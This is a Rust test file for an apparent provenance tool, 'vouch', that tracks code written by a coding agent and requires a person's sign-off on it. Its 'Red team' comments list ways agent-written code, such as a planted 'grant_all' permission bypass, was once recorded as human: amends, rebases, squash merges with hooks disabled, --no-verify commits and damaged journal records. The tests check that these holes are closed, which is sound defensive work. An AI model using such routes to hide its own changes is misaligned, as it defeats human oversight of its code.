    assert!(attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));
}

/// Red team, round two: the end of another agent's turn (another session in
/// the same worktree) settled this session's call while its command still
/// ran, so what the command wrote afterwards was never recorded. A turn's
/// end settles its own session's calls only.
#[test]
fn another_sessions_turn_end_leaves_a_running_call_alone() {
    let repo = start();
    let input = json!({ "command": "cat >> src/auth.py" });
    repo.claude_hook("PreToolUse", "Bash", "toolu_1", input.clone());
    turn_of_ends(&repo, "s-2");
    repo.write("src/auth.py", &format!("{AUTH}{GRANT_ALL}"));
    repo.claude_hook("PostToolUse", "Bash", "toolu_1", input);
    repo.ok(&["commit", "-q", "-am", "auth"]);
    assert_grant_all_needs_sign_off(&repo);
}

/// Red team, round two: a commit's note carried the agent's change of a
/// script's mode, but an amend that also changed a word of the script, or a
/// rebase onto a change of its text, moved the note to the new version by
/// its AI lines: a mode record has none, so it was dropped ("no AI text
/// left") and the amended commit was noted "no AI". The mode record goes
/// with the rewritten commit wherever it still gives the file that mode.
#[test]
fn an_agents_chmod_survives_an_amend_and_a_rebase() {
    for how in ["amend", "rebase", "squash"] {
        let repo = VouchRepo::init_with(&[(".vouch.toml", POLICY), ("deploy.sh", DEPLOY)], &[]);
        repo.ok(&["checkout", "-q", "-b", "feature"]);
        agent_shell(&repo, "toolu_1", "chmod +x deploy.sh", || chmod(&repo, "deploy.sh", true));
        repo.ok(&["commit", "-q", "-am", "make deploy.sh executable"]);
        match how {
            "amend" => {
                repo.write("deploy.sh", &DEPLOY.replace("rsync -a", "rsync -az"));
                repo.ok(&["commit", "-q", "-a", "--amend", "--no-edit"]);
            }
            "rebase" => {
                repo.ok(&["checkout", "-q", "main"]);
                repo.write("deploy.sh", &format!("{DEPLOY}echo done\n"));
                repo.ok(&["commit", "-q", "-am", "say when done"]);
                repo.ok(&["checkout", "-q", "feature"]);
                repo.ok(&["rebase", "-q", "main"]);
            }
            _ => {
                // The person's edit on the branch, then a squash merge made
                // where vouch's hooks do not run (a forge), noted again with
                // `vouch notes rebuild` as CI does.
                repo.write("deploy.sh", &DEPLOY.replace("rsync -a", "rsync -az"));
                repo.ok(&["commit", "-q", "-am", "compress"]);
                repo.ok(&["checkout", "-q", "-b", "merged", "main"]);
                repo.ok(&["-c", "core.hooksPath=/dev/null", "merge", "-q", "--squash", "feature"]);
                repo.ok(&["-c", "core.hooksPath=/dev/null", "commit", "-q", "--no-edit"]);
                let run = repo.vouch(&["notes", "rebuild", "main..HEAD", "--source", "feature"]);
                assert_eq!(run.code, 0, "{run:?}");
            }
        }
        assert!(executable(&repo, "deploy.sh"));
        assert!(!attests_no_ai(&repo.note("HEAD")), "{how}: {:?}", repo.note("HEAD"));
        let (code, report) = repo.verify("main..HEAD");
        assert_eq!(code, 1, "{how}: {report:#}");
        let failures = report["failures"].as_array().unwrap();
        assert!(failures.iter().any(|f| f["path"] == "deploy.sh" && f["kind"] == "file-mode"), "{how}: {report:#}");
    }
}

/// Red team, round two: verify looked for changes of mode only in files
/// BASE has ("a new file is judged by its content"), so the agent's `chmod
/// +x` of a script the person had added earlier on the branch passed the
/// pull request's range, the content being the person's. A file new in
/// the range is compared with the mode it was added with.
#[test]
fn an_agents_chmod_of_a_file_new_on_the_branch_needs_sign_off() {
    let repo = start();
    repo.write("deploy.sh", DEPLOY);
    repo.ok(&["add", "deploy.sh"]);
    repo.ok(&["commit", "-q", "-m", "a deploy script"]);
    agent_shell(&repo, "toolu_1", "chmod +x deploy.sh", || chmod(&repo, "deploy.sh", true));
    repo.ok(&["commit", "-q", "-am", "make it executable"]);
    let (code, report) = repo.verify("main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let failures = report["failures"].as_array().unwrap();
    assert!(failures.iter().any(|f| f["path"] == "deploy.sh" && f["kind"] == "file-mode"), "{report:#}");
    // Added executable by the person, no change of mode is the agent's.
    let repo = start();
    repo.write("deploy.sh", DEPLOY);
    chmod(&repo, "deploy.sh", true);
    repo.ok(&["add", "deploy.sh"]);
    repo.ok(&["commit", "-q", "-m", "a deploy script"]);
    let (code, report) = repo.verify("main..HEAD");
    assert_eq!(code, 0, "{report:#}");
}

/// Red team, round two: a cherry-pick of the commit of an agent's chmod
/// took its sources' AI lines, and a mode record has none: the pick was
/// noted "no AI" (alone, in some runs; beside the record in others). What
/// a source's AI set on a file's mode is carried onto the pick that sets it.
#[test]
fn a_cherry_pick_of_an_agents_chmod_carries_it() {
    for round in 0..3 {
        let repo = VouchRepo::init_with(&[(".vouch.toml", POLICY), ("deploy.sh", DEPLOY)], &[]);
        repo.ok(&["checkout", "-q", "-b", "feature"]);
        agent_shell(&repo, "toolu_1", "chmod +x deploy.sh", || chmod(&repo, "deploy.sh", true));
        repo.ok(&["commit", "-q", "-am", "make deploy.sh executable"]);
        repo.ok(&["checkout", "-q", "-b", "release", "main"]);
        commit_long_ago(&repo, &["cherry-pick", "feature"]);
        assert!(executable(&repo, "deploy.sh"));
        let note = repo.note("HEAD");
        assert!(!attests_no_ai(&note), "round {round}: {note:?}");
        assert!(noted_file(&note, "deploy.sh")["mode"] == "100755", "round {round}: {note:?}");
        let (code, report) = repo.verify("main..HEAD");
        assert_eq!(code, 1, "round {round}: {report:#}");
    }
}

/// Red team, round three: an agent whose payloads name no session: its
/// Stop (no session) did not settle its call (no session either), whose
/// record never came, and the commit was noted "no AI".
#[test]
fn a_call_of_an_agent_that_names_no_session_is_settled_at_its_turns_end() {
    let repo = start();
    let hook = |event: &str| {
        let mut payload = json!({ "cwd": repo.root(), "hook_event_name": event });
        if event != "Stop" {
            payload["tool_name"] = json!("Bash");
            payload["tool_use_id"] = json!("toolu_1");
            payload["tool_input"] = json!({ "command": "cat >> src/auth.py" });
        }
        let run = repo.vouch_stdin(&["hook", "claude-code"], payload.to_string().as_bytes());
        assert_eq!(run.code, 0, "{run:?}");
    };
    hook("PreToolUse");
    repo.write("src/auth.py", &format!("{AUTH}{GRANT_ALL}"));
    hook("Stop");
    repo.ok(&["commit", "-q", "-am", "auth"]);
    assert_grant_all_needs_sign_off(&repo);
}

/// Red team, rounds two and three: a commit made while a tool call's
/// record had not come yet (the hook after it killed; the person commits
/// during the agent's turn) was noted "no AI" until the call was settled:
/// pushed in between, CI passed the agent's code. Such a commit's note
/// waits for the call: it is written once the call is recorded or settled.
#[test]
fn a_commit_made_while_a_call_is_pending_waits_for_its_record() {
    let repo = start();
    repo.claude_hook("PreToolUse", "Bash", "toolu_1", json!({ "command": "cat >> src/auth.py" }));
    repo.write("src/auth.py", &format!("{AUTH}{GRANT_ALL}"));
    repo.ok(&["commit", "-q", "-am", "auth"]);
    assert_eq!(repo.note("HEAD"), Vec::<Value>::new(), "no note while the call is pending");
    turn_ends(&repo);
    assert_grant_all_needs_sign_off(&repo);

    // The person's own edit, made before the call, committed while it
    // runs: attested once the call's record comes (it changed nothing).
    let repo = start();
    let input = json!({ "command": "ls" });
    repo.write("README.md", "mine\n");
    repo.claude_hook("PreToolUse", "Bash", "toolu_1", input.clone());
    repo.ok(&["add", "README.md"]);
    repo.ok(&["commit", "-q", "-m", "readme"]);
    assert_eq!(repo.note("HEAD"), Vec::<Value>::new(), "no note while the call is pending");
    repo.claude_hook("PostToolUse", "Bash", "toolu_1", input);
    assert!(attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));
}

/// The agent's Edit that appends `grant_all` to src/auth.py, both hooks
/// around it (call `id`): recorded.
fn agent_appends_grant_all(repo: &VouchRepo, id: &str) {
    let path = repo.root().join("src/auth.py");
    let input = json!({ "file_path": path, "old_string": "return u.data", "new_string": "return u.data\n\n\ndef grant_all(u):\n    return True" });
    repo.claude_hook("PreToolUse", "Edit", id, input.clone());
    repo.write("src/auth.py", &format!("{AUTH}{GRANT_ALL}"));
    repo.claude_hook("PostToolUse", "Edit", id, input);
}

/// The agent's Write of src/admin.py (call `id`), its PostToolUse not
/// yet come: the input, for it.
const ADMIN: &str = "def promote(u):\n    u.admin = True\n    return u\n";
fn agent_writes_admin_in_flight(repo: &VouchRepo, id: &str) -> Value {
    let input = json!({ "file_path": repo.root().join("src/admin.py"), "content": ADMIN });
    repo.claude_hook("PreToolUse", "Write", id, input.clone());
    repo.write("src/admin.py", ADMIN);
    input
}

/// Red team (rt30c A1-A3): a commit's note that holds the AI records of
/// one file attests the rest of the commit "not AI"; it was written so when
/// what vouch knew of the other files was not whole: a file tool's call in
/// flight on one of them (the person commits before its record comes), a
/// record the hook could not write (a full disk), a journal segment set
/// aside as damaged (a commit with `--no-verify`). The agent's lines there
/// passed verify as a person's. The note waits for a call in flight, as
/// one with no records did; and a note written while the account is not
/// whole names its AI records and attests nothing else.
#[test]
fn a_commit_vouch_knows_in_part_attests_nothing_beyond_its_ai_records() {
    // In flight: the note waits, then holds both.
    let repo = start();
    agent_appends_grant_all(&repo, "toolu_1");
    let input = agent_writes_admin_in_flight(&repo, "toolu_2");
    repo.ok(&["add", "-A"]);
    repo.ok(&["commit", "-q", "-m", "auth and admin"]);
    let note = repo.note("HEAD");
    noted_file(&note, "src/auth.py");
    assert!(note.iter().any(|r| r["attest"] == "partial"), "nothing else attested while in flight: {note:?}");
    repo.claude_hook("PostToolUse", "Write", "toolu_2", input);
    let note = repo.note("HEAD");
    noted_file(&note, "src/admin.py");
    noted_file(&note, "src/auth.py");
    assert!(note.iter().all(|r| r["attest"] != "partial"), "whole once the call's record came: {note:?}");
    assert_unapproved(&repo, &[("src/admin.py", "promote"), ("src/auth.py", "grant_all")]);

    // A journal segment set aside as damaged, a commit that skips the gate.
    let repo = start();
    agent_appends_grant_all(&repo, "toolu_1");
    let input = agent_writes_admin_in_flight(&repo, "toolu_2");
    repo.claude_hook("PostToolUse", "Write", "toolu_2", input);
    let journal = repo.root().join(".git/vouch/journal");
    let segment = std::fs::read_dir(&journal)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| std::fs::read_to_string(p).is_ok_and(|t| t.contains("src/admin.py")))
        .expect("a segment records src/admin.py");
    let bytes = std::fs::read(&segment).unwrap();
    std::fs::write(&segment, [&bytes[..bytes.len() / 2], b"\n"].concat()).unwrap();
    repo.ok(&["add", "-A"]);
    repo.ok(&["commit", "-q", "--no-verify", "-m", "auth and admin"]);
    let note = repo.note("HEAD");
    noted_file(&note, "src/auth.py");
    assert!(note.iter().any(|r| r["attest"] == "partial"), "the note says it is not whole: {note:?}");
    let found = failures(&repo);
    assert!(found.iter().any(|(_, path, _)| path == "src/auth.py"), "{found:?}");
    let (_, report) = repo.verify("main..HEAD");
    let unknown = report["coverage"]["unknown_lines"].as_u64().unwrap_or_default();
    assert!(unknown >= 3, "src/admin.py's lines are of unknown origin, not a person's: {report:#}");
}

/// Red team (rt30c B1): a snapshot damaged while its call ran (its
/// PostToolUse never came) was left in place at the turn's end, unread and
/// unsaid, and counted as a call in flight for a quarter of an hour. The
/// turn's end settles it: what the call may have changed is unknown, and
/// the snapshot is set aside and kept for someone to look into.
#[test]
fn a_snapshot_damaged_during_its_call_is_set_aside_at_the_turns_end() {
    let repo = start();
    agent_writes_admin_in_flight(&repo, "toolu_1");
    let pre = repo.root().join(".git/vouch/pre");
    let garbage = b"\x00\xffnot a snapshot\n";
    std::fs::write(pre.join("toolu_1.snap"), garbage).unwrap();
    turn_ends(&repo);
    let names: Vec<String> =
        std::fs::read_dir(&pre).unwrap().flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect();
    let kept: Vec<&String> = names.iter().filter(|n| n.starts_with("toolu_1.snap.corrupt-")).collect();
    assert_eq!(kept.len(), 1, "{names:?}");
    assert!(!names.iter().any(|n| n == "toolu_1.snap"), "{names:?}");
    assert_eq!(std::fs::read(pre.join(kept[0])).unwrap(), garbage);
    let doctor = repo.vouch(&["doctor"]);
    assert!(doctor.stdout.contains(kept[0].as_str()) || doctor.stderr.contains(kept[0].as_str()), "{doctor:?}");
    // What the call wrote is never a person's.
    repo.ok(&["add", "-A"]);
    repo.ok(&["commit", "-q", "-m", "admin"]);
    assert!(!attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));
}

/// Red team, round four: a commit whose note waited for a call was noted
/// "no AI" although it held the agent's text, where the call's record
/// could no longer see it: the person left the branch before a file tool's
/// record came (its record compares the file as it is now), or an old call
/// was settled as unknown with HEAD back where the call began. Such a
/// commit stays unattested.
#[test]
fn a_waiting_commit_the_calls_record_cannot_see_stays_unattested() {
    // A Write in flight; the person commits its text, then goes back to
    // main before its record comes.
    let repo = start();
    let path = repo.root().join("src/auth.py");
    let input = json!({ "file_path": path, "content": format!("{AUTH}{GRANT_ALL}") });
    repo.claude_hook("PreToolUse", "Write", "toolu_1", input.clone());
    repo.write("src/auth.py", &format!("{AUTH}{GRANT_ALL}"));
    repo.ok(&["commit", "-q", "-am", "auth"]);
    repo.ok(&["checkout", "-q", "main"]);
    repo.claude_hook("PostToolUse", "Write", "toolu_1", input);
    assert!(!attests_no_ai(&repo.note("feature")), "{:?}", repo.note("feature"));

    // A shell call whose turn never ended, settled as unknown with HEAD
    // back on main.
    let repo = start();
    repo.claude_hook("PreToolUse", "Bash", "toolu_1", json!({ "command": "cat >> src/auth.py" }));
    repo.write("src/auth.py", &format!("{AUTH}{GRANT_ALL}"));
    repo.ok(&["commit", "-q", "-am", "auth"]);
    repo.ok(&["checkout", "-q", "main"]);
    let snapshot = repo.root().join(".git/vouch/pre/toolu_1.snap");
    let long_ago = std::time::SystemTime::now() - std::time::Duration::from_secs(20 * 60);
    std::fs::File::options().write(true).open(&snapshot).unwrap().set_modified(long_ago).unwrap();
    repo.claude_hook("PreToolUse", "Bash", "toolu_2", json!({ "command": "ls" }));
    assert!(!attests_no_ai(&repo.note("feature")), "{:?}", repo.note("feature"));
}

/// Red team (rt26c B5): a snapshot damaged between the tool's hooks was
/// said, and the call recorded without it (failing closed), but then
/// deleted with the good ones: nothing was left to look into. It is set
/// aside, as a damaged journal segment is, and kept.
#[test]
fn a_damaged_snapshot_is_set_aside_not_deleted() {
    let repo = start();
    let garbage = b"\x00\xffnot a snapshot\n";
    agent_shell(&repo, "toolu_1", "cat > src/admin.py", || {
        std::fs::write(repo.root().join(".git/vouch/pre/toolu_1.snap"), garbage).unwrap();
        repo.write("src/admin.py", "def grant_all(u):\n    return True\n");
    });
    let pre = repo.root().join(".git/vouch/pre");
    let kept: Vec<std::path::PathBuf> = std::fs::read_dir(&pre)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.file_name().is_some_and(|n| n.to_string_lossy().starts_with("toolu_1.snap.corrupt-")))
        .collect();
    assert_eq!(kept.len(), 1, "{:?}", std::fs::read_dir(&pre).unwrap().flatten().map(|e| e.path()).collect::<Vec<_>>());
    assert_eq!(std::fs::read(&kept[0]).unwrap(), garbage);
    // And said where a person looks for what went wrong, until they delete it.
    let doctor = repo.vouch(&["doctor"]);
    assert_eq!(doctor.code, 1, "{doctor:?}");
    let name = kept[0].file_name().unwrap().to_string_lossy().to_string();
    assert!(doctor.stdout.lines().any(|l| l.contains("FAIL") && l.contains(&name)), "{}", doctor.stdout);
    // What the call wrote is still not taken for the person's.
    repo.ok(&["add", "-A"]);
    repo.ok(&["commit", "-q", "-m", "admin"]);
    assert!(!attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));
}

/// Red team (rt27b F2): the person throws the agent's edit away (`git
/// restore`, `git checkout --`, `git reset --hard`) and later changes a
/// line of their own by hand. The journal still held the agent's record,
/// and carrying it onto the new text by a character diff matched the
/// person's `return doc.public` with letters of the discarded function
/// (`return`, the `doc` of its parameters): the commit was noted AI and
/// asked for sign-off. A block of lines that is another text keeps no
/// character of the old one.
#[test]
fn a_persons_edit_after_the_agents_was_thrown_away_stays_theirs() {
    let auth = "def can_delete(user, doc):\n    if not user.is_admin:\n        raise PermissionError()\n    return True\n\n\ndef can_read(user, doc):\n    return True\n";
    for discard in [&["restore", "src/auth.py"][..], &["checkout", "--", "src/auth.py"], &["reset", "-q", "--hard"]] {
        let repo = VouchRepo::init_with(&[(".vouch.toml", POLICY), ("src/auth.py", auth)], &[]);
        repo.ok(&["checkout", "-q", "-b", "feature"]);
        agent_shell(&repo, "toolu_1", "cat >> src/auth.py", || {
            repo.write(
                "src/auth.py",
                &format!(
                    "{auth}\n\ndef grant_all(user, doc):\n    if user.banned:\n        return False\n    return True\n"
                ),
            );
        });
        repo.ok(discard);
        repo.write("NOTES.md", "unrelated\n");
        repo.ok(&["add", "NOTES.md"]);
        repo.ok(&["commit", "-q", "-m", "notes"]);
        repo.write(
            "src/auth.py",
            &auth.replace(
                "def can_read(user, doc):\n    return True",
                "def can_read(user, doc):\n    return doc.public",
            ),
        );
        repo.ok(&["commit", "-q", "-am", "public documents"]);
        assert!(attests_no_ai(&repo.note("HEAD")), "{discard:?}: {:?}", repo.note("HEAD"));
        assert_eq!(failures(&repo), Vec::new(), "{discard:?}");
    }
}

/// Red team (rt27b F1): the agent works, uncommitted, in a worktree of
/// its own while the person writes their own function in the same file in
/// the main worktree. The other worktree's record was carried onto the
/// person's commit with the guesses of a record carried onto its own
/// text's later versions: the person's function, where the agent's stood
/// in the other worktree, became AI. From another worktree only the
/// agent's text found here unchanged is the agent's.
#[test]
fn a_persons_function_where_another_worktrees_agent_wrote_stays_theirs() {
    let auth = "def can_read(user, doc):\n    return True\n";
    let repo = VouchRepo::init_with(&[(".vouch.toml", POLICY), ("src/auth.py", auth)], &[]);
    repo.ok(&["checkout", "-q", "-b", "feature"]);
    let wt = repo.root().parent().unwrap().join(format!("{}-wt", repo.root().file_name().unwrap().to_string_lossy()));
    repo.ok(&["worktree", "add", "-q", &wt.display().to_string(), "-b", "agent-wt"]);
    let file = wt.join("src/auth.py");
    let grant_all = "\n\ndef grant_all(user, doc):\n    if user.banned:\n        return False\n    return True\n";
    let text = format!("{auth}{grant_all}");
    for event in ["PreToolUse", "PostToolUse"] {
        if event == "PostToolUse" {
            std::fs::write(&file, &text).unwrap();
        }
        let payload = json!({ "session_id": "s-1", "cwd": wt, "hook_event_name": event, "tool_name": "Write",
            "tool_use_id": "toolu_1", "tool_input": { "file_path": file, "content": text } });
        let run = repo.vouch_with(&wt, &["hook", "claude-code"], payload.to_string().as_bytes(), &[]);
        assert_eq!(run.code, 0, "{run:?}");
    }
    let audit = "\n\ndef audit(user, doc):\n    log(user, doc)\n    return None\n";
    repo.write("src/auth.py", &format!("{auth}{audit}"));
    repo.ok(&["commit", "-q", "-am", "audit"]);
    assert!(attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));
    // The agent's function brought over as it is stays the agent's.
    repo.write("src/auth.py", &format!("{auth}{audit}{grant_all}"));
    repo.ok(&["commit", "-q", "-am", "take the agent's grant_all"]);
    assert_eq!(noted_file(&repo.note("HEAD"), "src/auth.py")["ai"], json!([[10, 13]]), "{:?}", repo.note("HEAD"));
    let _ = std::fs::remove_dir_all(&wt);
}

/// Round two (rt27e V1, a regression of the view's line diff): the person,
/// outside any editor, rewrites their own line above the agent's lines,
/// adds lines of their own there, and changes one character of the
/// agent's first line. The changed block as a whole was another text, so
/// it was not refined, and the agent's line, all but one character as the
/// agent wrote it, was noted the person's. A line of such a block that is
/// mostly a line of the old one is an edit of it.
#[test]
fn an_agents_line_edited_beside_a_persons_rewrite_stays_ai() {
    let head = "def connect(config):\n    retries = config.get('retries', 3)\n    return open_connection(config['host'], retries)\n";
    let repo = VouchRepo::init_with(&[(".vouch.toml", POLICY), ("src/net.py", head)], &[]);
    repo.ok(&["checkout", "-q", "-b", "feature"]);
    let ai = "    timeout = compute_timeout(config, retries, backoff=2.0)\n    if timeout > MAX_TIMEOUT:\n        raise ValueError('timeout too large')\n";
    let retries = "    retries = config.get('retries', 3)\n";
    agent_shell(&repo, "toolu_1", "python3 edit.py", || {
        repo.write("src/net.py", &head.replace(retries, &format!("{retries}{ai}")));
    });
    let mine = "    retries = int(os.environ.get('NET_RETRIES', 5))\n    # the network team asked for this; see the runbook\n    metrics.gauge('net.retries', retries, tags={'host': config['host']})\n    log.info('retries=%d', retries)\n";
    let edited = head.replace(retries, &format!("{mine}{}", ai.replace("backoff=2.0", "backoff=4.0")));
    repo.write("src/net.py", &edited);
    repo.ok(&["commit", "-q", "-am", "retries from the environment"]);
    assert_eq!(noted_file(&repo.note("HEAD"), "src/net.py")["ai"], json!([[6, 8]]), "{:?}", repo.note("HEAD"));
}
